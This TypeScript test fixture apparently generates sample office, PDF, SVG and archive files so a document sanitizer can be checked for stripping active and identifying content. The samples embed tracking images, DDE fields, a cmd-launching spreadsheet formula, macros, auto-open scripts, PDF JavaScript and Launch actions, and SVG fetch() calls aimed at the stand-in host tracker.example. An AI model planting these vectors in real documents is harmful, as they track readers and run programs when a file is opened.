import { PDFDocument, PDFName, PDFString, StandardFonts } from "@cantoo/pdf-lib";
import { type Parts, rels, zipped } from "./office.ts";
import { compound, formats, inWord, sample } from "./office-markers.ts";

/** Where a copy would call, and whom it would name; none of it may be left in one. */
export const caller = "tracker.example";
export const reach = "maria@holzhausen.example";
/** What stays in every copy. */
export const stays = "The text stays";

/** One thing that acts or speaks in one format, and a file with it. `withheld`: it cannot be taken out. */
export type ActingFile = {
  format: string;
  kind: string;
  mime: string;
  bytes: () => Uint8Array | Promise<Uint8Array>;
  withheld?: true;
};

const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const microsoft = "http://schemas.microsoft.com/office/2006/relationships";
const address = `https://${caller}/pixel.png`;
const share = `\\\\${caller}\\share\\pixel.png`;
type Links = Parameters<typeof rels>[0];
const text = `<w:p><w:r><w:t>${stays}.</w:t></w:r></w:p>`;
const drawing = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"';
const blip = (names: string): string => `<w:p><w:r><a:blip ${drawing} ${names}/></w:r></w:p>`;
const field = (...pieces: string[]): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const word = (kind: string, body: string, links: Links = [], more: Parts = {}): ActingFile => ({
  format: "docx",
  kind,
  mime: formats.docx.mime,
  bytes: () => sample("docx", { ...inWord(text + body), ...more }, links),
});

const sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const book = (kind: string, cells: string, more: Parts = {}, names = ""): ActingFile => ({
  format: "xlsx",
  kind,
  mime: formats.xlsx.mime,
  bytes: () =>
    sample(
      "xlsx",
      {
        "xl/workbook.xml": `<workbook xmlns="${sheet}" xmlns:r="${office}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>${names}</workbook>`,
        "xl/worksheets/sheet1.xml": `<worksheet xmlns="${sheet}" xmlns:r="${office}"><sheetData><row r="1"><c r="A1" t="str"><f>1+1</f><v>${stays}</v></c>${cells}</row></sheetData></worksheet>`,
        ...more,
      },
      [
        [`${office}/worksheet`, "worksheets/sheet1.xml"],
        ...(more["xl/externalLinks/externalLink1.xml"]
          ? [[`${office}/externalLink`, "externalLinks/externalLink1.xml"] as [string, string]]
          : []),
      ],
    ),
});
const cell = (formula: string): string => `<c r="B1"><f>${formula}</f><v>5</v></c>`;

const slides = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"';
const deck = (kind: string, shapes: string, links: Links = []): ActingFile => ({
  format: "pptx",
  kind,
  mime: formats.pptx.mime,
  bytes: () =>
    sample(
      "pptx",
      {
        "ppt/slides/slide1.xml": `<p:sld ${slides} ${drawing} xmlns:r="${office}"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>${stays}.</a:t></a:r></a:p></p:txBody></p:sp>${shapes}</p:spTree></p:cSld></p:sld>`,
        "ppt/slides/_rels/slide1.xml.rels": rels(links),
      },
      [[`${office}/slide`, "slides/slide1.xml"]],
    ),
});

const odf = "urn:oasis:names:tc:opendocument:xmlns:";
const spaces = ["office", "text", "draw", "table", "script", "style", "svg:svg-compatible"]
  .map((one) => `xmlns:${one.split(":")[0]}="${odf}${one.split(":").at(-1)}:1.0"`)
  .join(" ");
const writer = (kind: string, body: string, more: Parts = {}, before = ""): ActingFile => ({
  format: "odt",
  kind,
  mime: "application/vnd.oasis.opendocument.text",
  bytes: () =>
    zipped({
      mimetype: "application/vnd.oasis.opendocument.text",
      "META-INF/manifest.xml": `<manifest:manifest xmlns:manifest="${odf}manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
      "content.xml": `<office:document-content ${spaces} xmlns:xlink="http://www.w3.org/1999/xlink">${before}<office:body><office:text><text:p>${stays}.</text:p>${body}</office:text></office:body></office:document-content>`,
      ...more,
    }),
});

const svg = (kind: string, inside: string): ActingFile => ({
  format: "svg",
  kind,
  mime: "application/octet-stream",
  bytes: () =>
    Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>${stays}</text>${inside}</svg>`,
    ),
});

type Draw = (document: PDFDocument) => void | Promise<void>;
const pdf = (kind: string, draw: Draw, withheld?: true): ActingFile => ({
  format: "pdf",
  kind,
  mime: "application/pdf",
  ...(withheld && { withheld }),
  bytes: async () => {
    const document = await PDFDocument.create();
    const font = await document.embedFont(StandardFonts.Helvetica);
    document.addPage([300, 200]).drawText(stays, { x: 20, y: 100, size: 12, font });
    await draw(document);
    return document.save({ useObjectStreams: false });
  },
});
const action = (document: PDFDocument, entries: Record<string, string | PDFString>) =>
  document.context.obj({ Type: "Action", ...entries });
const linkTo = (document: PDFDocument, entries: Record<string, string | PDFString>): void => {
  const remark = document.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 9, 9] });
  remark.set(PDFName.of("A"), action(document, entries));
  document.getPage(0).node.addAnnot(document.context.register(remark));
};

const plain = (format: string, kind: string, content: string, mime = "application/octet-stream"): ActingFile => ({
  format,
  kind,
  mime,
  bytes: () => Buffer.from(content),
  withheld: true,
});
const archive = (kind: string, parts: () => Parts | Promise<Parts>, withheld?: true): ActingFile => ({
  format: "zip",
  kind,
  mime: "application/zip",
  ...(withheld && { withheld }),
  bytes: async () => zipped(await parts()),
});

const half = reach.length / 2;
/** A heading whose contact detail stands in three runs, the second one bold. */
const splitHeading = `<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>By ${reach.slice(0, 3)}</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>${reach.slice(3, half)}</w:t></w:r><w:r><w:t>${reach.slice(half)}</w:t></w:r></w:p>`;
const heading = `<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>By ${reach}</w:t></w:r></w:p>`;
const trackingPicture = word("picture at an address", blip('r:link="rId1"'), [[`${office}/image`, address, true]]);

export const actingFiles: readonly ActingFile[] = [
  trackingPicture,
  word("picture on a share", blip('r:embed="rId1"'), [[`${office}/image`, share, true]]),
  word("template at an address", "", [[`${office}/attachedTemplate`, address, true]]),
  word("page in a frame", "", [[`${office}/frame`, address, true]]),
  word(
    "picture of an old drawing",
    `<w:p><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="${address}"/></w:pict></w:p>`,
  ),
  word("DDE field", field(`DDEAUTO c:\\\\x "${caller}"`)),
  word("DDE field in pieces", field("DDE", `AUTO "${caller}"`)),
  word("INCLUDEPICTURE field", field(` INCLUDEPICTURE "${address}" \\d `)),
  word(
    "simple INCLUDETEXT field",
    `<w:p><w:fldSimple w:instr="INCLUDETEXT ${address}"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>`,
  ),
  word(
    "field inside a field",
    field(" PAGE ").replace("<w:r><w:t>shown", `${field(`LINK Excel "${caller}"`).slice(5, -6)}<w:r><w:t>shown`),
  ),
  word("macros", "", [[`${microsoft}/vbaProject`, "vbaProject.bin"]], {
    "word/vbaProject.bin": Buffer.concat([compound("_VBA_PROJECT"), Buffer.from(caller)]),
  }),
  word(
    "video of a page",
    `<w:p><wp15:webVideoPr xmlns:wp15="urn:x" embeddedHtml="&lt;iframe src='${address}'>"/></w:p>`,
  ),
  word("contact in a description", `<w:p><w:docPr id="1" descr="Write to ${reach}" title="${reach}"/></w:p>`),
  word("contact in a heading", heading),
  word("contact in pieces of a heading", splitHeading),
  word("contact in a page header", "", [[`${office}/header`, "header1.xml"]], {
    "word/header1.xml": `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${text.replace(stays, reach)}</w:hdr>`,
  }),
  book("formula that fetches", cell(`WEBSERVICE("${address}")`)),
  book("DDE formula", cell(`cmd|'/c start ${caller}'!A0`)),
  book("formula of another file", cell("[1]Sheet1!A1"), {
    "xl/externalLinks/externalLink1.xml": `<externalLink xmlns="${sheet}" xmlns:r="${office}"><externalBook r:id="rId1"/></externalLink>`,
    "xl/externalLinks/_rels/externalLink1.xml.rels": rels([[`${office}/externalLinkPath`, share, true]]),
  }),
  book(
    "name that runs at opening",
    "",
    {},
    `<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1 ${caller}</definedName></definedNames>`,
  ),
  {
    ...book("connection", "", {
      "xl/connections.xml": `<connections xmlns="${sheet}"><connection id="1" refreshOnLoad="1"><webPr url="${address}"/></connection></connections>`,
    }),
    withheld: true,
  },
  deck("picture at an address", '<p:pic><p:blipFill><a:blip r:link="rId1"/></p:blipFill></p:pic>', [
    [`${office}/image`, address, true],
  ]),
  deck("video at an address", '<p:pic><p:nvPicPr><p:nvPr><a:videoFile r:link="rId1"/></p:nvPr></p:nvPicPr></p:pic>', [
    [`${office}/video`, address, true],
  ]),
  deck(
    "shape that starts a program",
    '<p:sp><p:nvSpPr><p:cNvPr id="2" name="a"><a:hlinkClick r:id="rId1" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp>',
    [[`${office}/hyperlink`, `file:///${caller}/a.exe`, true]],
  ),
  deck(
    "contact in a title",
    `<p:sp><p:nvSpPr><p:nvPr><p:ph type="title"/></p:nvPr></p:nvSpPr><p:txBody><a:p><a:r><a:t>${reach}</a:t></a:r></a:p></p:txBody></p:sp>`,
  ),
  deck(
    "contact in pieces of a title",
    `<p:sp><p:nvSpPr><p:nvPr><p:ph type="title"/></p:nvPr></p:nvSpPr><p:txBody><a:p><a:r><a:t>${reach.slice(0, half)}</a:t></a:r><a:r><a:t>${reach.slice(half)}</a:t></a:r></a:p></p:txBody></p:sp>`,
  ),
  writer("picture at an address", `<text:p><draw:frame><draw:image xlink:href="${address}"/></draw:frame></text:p>`),
  writer(
    "section of another file",
    `<text:section text:name="a"><text:section-source xlink:href="../${caller}.odt"/><text:p>shown</text:p></text:section>`,
  ),
  writer(
    "script",
    "",
    { "Basic/Standard/Module1.xml": `<module>${caller}</module>` },
    `<office:scripts><office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:${caller}"/></office:event-listeners></office:scripts>`,
  ),
  writer(
    "DDE",
    `<text:dde-connection-decls><text:dde-connection-decl office:dde-topic="${caller}"/></text:dde-connection-decls>`,
  ),
  writer(
    "link that runs a script",
    `<text:p><text:a xlink:href="vnd.sun.star.script:${caller}">shown</text:a></text:p>`,
  ),
  writer("contact in a heading", `<text:h><text:span>${reach}</text:span></text:h>`),
  writer(
    "contact in pieces of a heading",
    `<text:h>${reach.slice(0, half)}<text:span>${reach.slice(half)}</text:span></text:h>`,
  ),
  writer("contact in a description", `<text:p><draw:frame><svg:desc>${reach}</svg:desc></draw:frame></text:p>`),
  pdf("script at opening", (document) => {
    document.catalog.set(
      PDFName.of("OpenAction"),
      action(document, { S: "JavaScript", JS: PDFString.of(`app.launchURL('${address}')`) }),
    );
  }),
  pdf("scripts by name", (document) => document.addJavaScript("a", `app.launchURL("${address}")`)),
  pdf("launch of a program", (document) => linkTo(document, { S: "Launch", F: PDFString.of(`//${caller}/a.exe`) })),
  pdf("another file, opened at a place", (document) =>
    linkTo(document, { S: "GoToR", F: PDFString.of(`//${caller}/a.pdf`) }),
  ),
  pdf("form that is sent", (document) => linkTo(document, { S: "SubmitForm", F: PDFString.of(address) })),
  pdf("act of a page", (document) => {
    document
      .getPage(0)
      .node.set(
        PDFName.of("AA"),
        document.context.obj({ O: action(document, { S: "URI", URI: PDFString.of(address) }) }),
      );
  }),
  pdf("form field", async (document) => {
    const answer = document.getForm().createTextField("name");
    answer.setText("typed value");
    answer.addToPage(document.getPage(0), { x: 20, y: 20, width: 100, height: 20 });
    answer.acroField.dict.set(
      PDFName.of("AA"),
      document.context.obj({ K: action(document, { S: "JavaScript", JS: PDFString.of(caller) }) }),
    );
  }),
  svg("script", `<script>fetch("${address}")</script>`),
  svg("handler", `<rect onload="fetch('${address}')"/>`),
  svg("picture at an address", `<image xlink:href="${address}"/><use href="${address}#a"/>`),
  svg(
    "style that fetches",
    `<style>@import "${address}"; rect { fill: url(${address}) }</style><rect style="fill:url('${address}')"/>`,
  ),
  svg("style with escapes", `<style>rect { fill: \\75rl(${address}) }</style>`),
  svg("page inside", `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${address}"/></foreignObject>`),
  svg("animated address", `<a><set attributeName="href" to="${address}"/></a>`),
  svg("contact in a title", `<title>${reach}</title>`),
  plain("ipynb", "contact in a cell", `{"cells":[{"source":["# By ${reach}"]}],"nbformat":4}`),
  plain(
    "html",
    "contact in its head",
    `<!doctype html><html><head><meta name="author" content="${reach}"></head></html>`,
  ),
  plain(
    "eml",
    "sender and receiver",
    `From: Maria <${reach}>\r\nTo: a@b.example\r\nSubject: Essay\r\n\r\n${stays}`,
    "text/plain; charset=utf-8",
  ),
  archive("document that fetches", async () => ({ "a.docx": await trackingPicture.bytes() })),
  archive("contact in a name", () => ({ [`from ${reach}/notes ${reach}.txt`]: stays })),
  archive("mail in it", () => ({ "a.eml": `From: ${reach}\r\nTo: a@b.example\r\nSubject: x\r\n\r\ny` }), true),
];
